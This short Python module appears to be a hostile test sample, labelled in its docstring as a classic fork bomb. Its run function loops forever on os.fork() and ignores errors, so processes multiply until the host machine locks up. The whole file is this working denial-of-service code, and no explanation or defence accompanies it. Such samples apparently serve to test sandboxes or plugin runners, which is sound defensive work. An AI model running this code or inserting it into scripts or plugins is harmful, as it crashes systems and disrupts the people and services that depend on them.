"""Hostile: a classic fork bomb; every process forks forever and ignores failures."""

import os


def run(inputs, params):
    while True:
        try:
            os.fork()
        except OSError:
            pass
